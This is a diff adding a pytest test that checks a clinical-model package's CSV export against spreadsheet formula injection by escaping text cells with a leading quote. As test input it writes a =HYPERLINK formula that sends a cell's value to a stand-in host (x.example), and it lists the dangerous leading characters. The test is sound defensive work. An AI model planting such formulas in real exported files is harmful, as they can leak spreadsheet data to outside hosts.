@@ -341,3 +341,27 @@ def test_a_real_level_named_like_a_placeholder_is_not_read_as_missing():
     real, missing = X.iloc[[1]].copy(), X.iloc[[1]].copy()
     real["ward"], missing["ward"] = "(missing)", None
     assert pipe.predict_proba(real)[0, 1] != pytest.approx(pipe.predict_proba(missing)[0, 1])
+
+
+def test_csv_text_cells_are_never_spreadsheet_formulas(tmp_path):
+    """A received model's label or unit (``=HYPERLINK(...)``, ``=2+3``) and the ``change`` column's
+    own ``+1 SD = 1.03`` were written verbatim, and a spreadsheet runs them as formulas; every
+    such text cell now starts with a single quote (OWASP), numbers stay numbers."""
+    from ragim.export import spreadsheet_safe, write_csv
+    from ragim.schema import FeatureSchema
+
+    X = pd.DataFrame({"crp": np.linspace(1, 9, 40), "age": np.linspace(30, 80, 40)})
+    d = FeatureSchema.infer(X).fit(X).to_dict()
+    d["features"][0].update(label='=HYPERLINK("http://x.example/?"&A2,"crp")', unit="=2+3")
+    p = ModelParams("logistic", FeatureSchema.from_dict(d), np.array([0.1, -0.5, 0.2]))
+    back = pd.read_csv(save_coefficients_csv(p, tmp_path / "c.csv"))
+    text = [c for c in back.select_dtypes(exclude="number").to_numpy().ravel() if isinstance(c, str)]
+    assert "'+1 SD = 1" in " ".join(text)
+    assert not [c for c in text if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text
+    crp = back.set_index("term").loc["crp"]
+    assert crp["label"].startswith("'=HYPERLINK(") and crp["unit"] == "'=2+3"
+    assert crp["change"].startswith("'+1 SD")
+    assert back["model_coef"].tolist() == pytest.approx([0.1, -0.5, 0.2])  # numbers, unquoted
+    table = pd.DataFrame({"row": [0, 1], "patient_id": ["@p1", "p2"], "risk": [-0.0, 0.5]})
+    assert pd.read_csv(write_csv(table, tmp_path / "r.csv"))["patient_id"].tolist() == ["'@p1", "p2"]
+    assert spreadsheet_safe(table)["risk"].tolist() == [0.0, 0.5]
